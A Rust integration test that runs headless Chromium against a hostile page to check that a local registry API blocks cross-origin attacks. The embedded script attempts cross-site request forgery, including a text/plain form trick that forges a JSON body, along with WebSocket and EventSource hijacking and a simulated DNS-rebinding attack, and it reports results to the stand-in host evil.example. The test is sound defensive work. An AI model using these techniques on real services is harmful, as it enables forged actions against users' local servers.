//! A hostile page in a real browser: it may try what it likes, the registry takes nothing from it.
//!
//! The browser is Chromium, from `AIWG_RS_CHROMIUM` or the path; where there is none, this is skipped and says so. It needs no driver: the
//! page itself reports to the server that it came from.

use super::peer::{Peer, Serve, order, soon, spawn};
use axum::extract::State;
use axum::response::Html;
use axum::routing::{get, post};
use serde_json::{Value, json};
use std::net::SocketAddr;
use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::sync::{Arc, Mutex};
use std::time::Duration;
use tokio::io::copy_bidirectional;
use tokio::net::{TcpListener, TcpStream};
use tokio::sync::{oneshot, watch};

/// A browser needs longer than anything of ours.
pub(super) const BROWSER_DEADLINE: Duration = Duration::from_secs(90);

/// Returns the browser's program; where there is none, the test that asked says that it is skipped.
pub(super) fn browser() -> Option<PathBuf> {
    if let Some(named) = std::env::var_os("AIWG_RS_CHROMIUM") {
        return Some(named.into());
    }
    let folders = std::env::var_os("PATH")?;
    let names = ["chromium", "chromium-browser", "google-chrome", "chrome-headless-shell"];
    std::env::split_paths(&folders)
        .flat_map(|folder| names.map(|name| folder.join(name)))
        .find(|path| path.is_file())
}

/// What the page does. It runs as `http://evil.example:PORT`, and then once more as a page that was rebound to the registry.
fn page(registry: &str, executor: &str) -> String {
    const SCRIPT: &str = r#"<!doctype html><title>evil</title><iframe name="sink"></iframe><script>
const registry = "http://REGISTRY", executor = "EXECUTOR", dispatch = registry + "/api/v1/sessions/s/dispatch";
const body = id => JSON.stringify({mission_id: id, objective: "evil"});
const seen = {};
const attempt = async (name, work) => {
  try { seen[name] = await Promise.race([work(), new Promise(done => setTimeout(() => done("no answer"), 5000))]); }
  catch (error) { seen[name] = "blocked: " + error.name; }
};
const status = async answer => (await answer).type === "opaque" ? "opaque" : String((await answer).status);
const open = url => new Promise(done => {
  const socket = new WebSocket(url);
  socket.onopen = () => done("open");
  socket.onerror = () => done("refused");
});
const form = (id, kind) => new Promise(done => {
  const form = document.createElement("form"), field = document.createElement("input");
  form.method = "post"; form.enctype = kind; form.action = dispatch; form.target = "sink";
  // text/plain sends name=value: together they are JSON.
  field.name = body(id).slice(0, -1) + ',"x":"'; field.value = '"}';
  form.append(field); document.body.append(form);
  document.querySelector("iframe").onload = () => done("sent");
  form.submit();
});
const rebound = async () => {
  // Same origin, as the browser sees it: nothing is hidden from the script.
  await fetch("/rebind", {method: "POST"});
  const json = {method: "POST", headers: {"content-type": "application/json"}};
  // Until the old connections are gone, the attacker's own server answers, and knows no such path.
  for (let tries = 0; tries < 200 && !["421", "200"].includes(seen["rebound read"]); tries++) {
    await attempt("rebound read", () => status(fetch("/api/v1/executors", {cache: "no-store"})));
    await new Promise(done => setTimeout(done, 50));
  }
  await attempt("rebound dispatch", () => status(fetch("/api/v1/sessions/s/dispatch", {...json, body: body("m-rebound")})));
  await attempt("rebound abort", () => status(fetch("/api/v1/missions/m-victim/abort", {...json, body: "{}"})));
  await attempt("rebound socket", () => open("ws://" + location.host + "/ws/executors/" + executor));
  location.href = "http://evil.example:EVIL/report?seen=" + encodeURIComponent(JSON.stringify(seen));
};
const main = async () => {
  if (location.hostname === "rebound.example") return rebound();
  const json = {"content-type": "application/json"};
  await attempt("fetch", () => status(fetch(dispatch, {method: "POST", headers: json, body: body("m-fetch")})));
  await attempt("fetch text", () => status(fetch(dispatch, {method: "POST", mode: "no-cors", headers: {"content-type": "text/plain"}, body: body("m-text")})));
  await attempt("fetch bare", () => status(fetch(registry + "/api/v1/missions/m-victim/abort", {method: "POST", mode: "no-cors"})));
  await attempt("read", () => status(fetch(registry + "/api/v1/missions")));
  await attempt("beacon", async () => String(navigator.sendBeacon(registry + "/api/v1/missions/m-victim/abort", "x")));
  await attempt("form text", () => form("m-form-text", "text/plain"));
  await attempt("form urlencoded", () => form("m-form", "application/x-www-form-urlencoded"));
  await attempt("form multipart", () => form("m-form-parts", "multipart/form-data"));
  await attempt("socket", () => open("ws://REGISTRY/ws/executors/" + executor));
  await attempt("socket of an observer", () => open("ws://REGISTRY/ws/executors/" + executor + "?role=observer"));
  await attempt("events", () => new Promise(done => {
    const events = new EventSource(registry + "/api/v1/events?after=0");
    events.onopen = () => done("open");
    events.onerror = () => { events.close(); done("refused"); };
  }));
  await fetch("/report", {method: "POST", body: JSON.stringify(seen)});
  location.href = "http://rebound.example:EVIL/";
};
main();
</script>"#;
    SCRIPT.replace("REGISTRY", registry).replace("EXECUTOR", executor)
}

/// The server that the page comes from, and what it is told.
#[derive(Clone)]
struct Evil {
    page: Arc<Mutex<String>>,
    reports: Arc<Mutex<Vec<Value>>>,
    done: Arc<Mutex<Option<oneshot::Sender<()>>>>,
    /// Where the name `rebound.example` leads from now on.
    rebound_to: Arc<watch::Sender<SocketAddr>>,
    registry: SocketAddr,
}

async fn evil_page(State(evil): State<Evil>) -> Html<String> {
    Html(evil.page.lock().unwrap().clone())
}

async fn take_report(State(evil): State<Evil>, body: String) {
    evil.reports.lock().unwrap().push(serde_json::from_str(&body).unwrap());
}

async fn take_last_report(State(evil): State<Evil>, query: axum::extract::Query<Value>) {
    let seen = query.0["seen"].as_str().unwrap();
    evil.reports.lock().unwrap().push(serde_json::from_str(seen).unwrap());
    if let Some(done) = evil.done.lock().unwrap().take() {
        done.send(()).ok();
    }
}

/// What a name server of the attacker does between two requests.
async fn rebind(State(evil): State<Evil>) {
    evil.rebound_to.send_replace(evil.registry);
}

/// Stands for the name: carries each connection to where the name leads at that moment, and cuts it when that changes.
async fn carry(listener: TcpListener, to: watch::Receiver<SocketAddr>) {
    loop {
        let (mut from, _) = listener.accept().await.unwrap();
        let mut to = to.clone();
        let now = *to.borrow_and_update();
        spawn(async move {
            let Ok(mut target) = TcpStream::connect(now).await else { return };
            let changed = async {
                to.changed().await.ok();
                // The answer that says so still passes.
                tokio::time::sleep(Duration::from_millis(200)).await;
            };
            tokio::select! {
                _ = copy_bidirectional(&mut from, &mut target) => {}
                () = changed => {}
            }
        });
    }
}

/// A running browser; all of its processes end with it.
pub(super) struct Browser {
    running: tokio::process::Child,
    pub(super) profile: tempfile::TempDir,
}

impl Browser {
    /// Opens a page; `rules` say where names lead.
    pub(super) fn open(program: &Path, rules: &str, url: &str) -> Self {
        let profile = tempfile::tempdir().unwrap();
        let running = tokio::process::Command::new(program)
            .args([
                "--headless",
                "--no-sandbox",
                "--disable-gpu",
                "--disable-dev-shm-usage",
                "--no-first-run",
            ])
            .args([
                "--disable-background-networking",
                "--disable-component-update",
                "--disable-sync",
                "--no-proxy-server",
            ])
            .arg(format!("--host-resolver-rules={rules}"))
            .arg(format!("--user-data-dir={}", profile.path().display()))
            // It leaves a directory there that it never removes.
            .env("TMPDIR", profile.path())
            .arg("--remote-debugging-port=0")
            .arg(url)
            .process_group(0)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .kill_on_drop(true)
            .spawn()
            .unwrap();
        Self { running, profile }
    }

    pub(super) async fn end(mut self) {
        self.kill();
        soon(self.running.wait()).await.unwrap();
    }

    fn kill(&self) {
        if let Some(pid) = self.running.id().and_then(|pid| i32::try_from(pid).ok())
            && let Some(group) = rustix::process::Pid::from_raw(pid)
        {
            rustix::process::kill_process_group(group, rustix::process::Signal::KILL).ok();
        }
    }
}

impl Drop for Browser {
    fn drop(&mut self) {
        self.kill();
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hostile_page_gets_nothing_and_changes_nothing() {
    let Some(program) = browser() else {
        println!("skipped: no Chromium here; name one with AIWG_RS_CHROMIUM");
        return;
    };
    let serve = Serve::start().await;
    let (peer, _line) = Peer::connected(&serve, 1, &[]).await;
    assert_eq!(serve.dispatch("m-victim").await.status, 202);
    let registry: SocketAddr = serve.base.strip_prefix("http://").unwrap().parse().unwrap();
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = listener.local_addr().unwrap();
    let (done, finished) = oneshot::channel();
    let evil = Evil {
        page: Arc::default(),
        reports: Arc::default(),
        done: Arc::new(Mutex::new(Some(done))),
        rebound_to: Arc::new(watch::Sender::new(address)),
        registry,
    };
    *evil.page.lock().unwrap() =
        page(&registry.to_string(), &peer.id).replace("EVIL", &address.port().to_string());
    let app = axum::Router::new()
        .route("/", get(evil_page))
        .route("/report", post(take_report).get(take_last_report))
        .route("/rebind", post(rebind))
        .with_state(evil.clone());
    let serving = spawn(async move { axum::serve(listener, app).await.unwrap() });
    let name = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let rules = format!(
        "MAP evil.example 127.0.0.1, MAP rebound.example 127.0.0.1:{}, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1",
        name.local_addr().unwrap().port()
    );
    let carrying = spawn(carry(name, evil.rebound_to.subscribe()));
    let refused_before = refused(&serve).await;
    let browser = Browser::open(&program, &rules, &format!("http://evil.example:{}/", address.port()));
    let outcome = tokio::time::timeout(BROWSER_DEADLINE, finished).await;
    browser.end().await;
    let reports = evil.reports.lock().unwrap().clone();
    assert!(outcome.is_ok(), "the page did not come to its end: {reports:?}");
    println!("the page saw: {}", serde_json::to_string_pretty(&reports).unwrap());

    let (elsewhere, rebound) = (&reports[0], &reports[1]);
    for name in ["fetch", "read"] {
        assert_eq!(elsewhere[name], "blocked: TypeError", "{name}");
    }
    for name in ["fetch text", "fetch bare"] {
        assert!(
            ["opaque", "blocked: TypeError"].contains(&elsewhere[name].as_str().unwrap()),
            "{name} cannot be read"
        );
    }
    for name in ["socket", "socket of an observer", "events"] {
        assert_eq!(elsewhere[name], "refused", "{name}");
    }
    // The browser hides nothing from a page that was rebound: it was the registry that said no.
    for name in ["rebound read", "rebound dispatch", "rebound abort"] {
        assert_eq!(rebound[name], "421", "{name}");
    }
    assert_eq!(rebound["rebound socket"], "refused");
    let refusals = refused(&serve).await - refused_before;
    assert!(
        refusals >= 10,
        "only {refusals} of the attempts came as far as the registry, so they were not tried"
    );
    for mission in ["m-fetch", "m-text", "m-form-text", "m-form", "m-form-parts", "m-rebound"] {
        assert_eq!(serve.get(&format!("/api/v1/missions/{mission}")).await.status, 404, "{mission}");
    }
    assert_eq!(serve.get("/api/v1/missions/m-victim").await.body["state"], "assigned");
    assert_eq!(peer.dispatches().len(), 1);
    let own = serve.http.post(format!("{}/api/v1/sessions/s/dispatch", serve.base)).json(&order("m-own"));
    assert_eq!(
        serve.send(own.header("origin", &serve.base)).await.status,
        202,
        "a page of the registry's own may"
    );
    assert_eq!(json!(peer.dispatches().len()), 2);
    serving.abort();
    carrying.abort();
    serve.stop().await;
}

/// How many requests have been refused at the door.
async fn refused(serve: &Serve) -> u64 {
    let text = serve.http.get(format!("{}/metrics", serve.base)).send().await.unwrap().text().await.unwrap();
    let line = text.lines().find(|line| line.starts_with("aiwg_requests_refused_total ")).unwrap();
    line.rsplit(' ').next().unwrap().parse().unwrap()
}
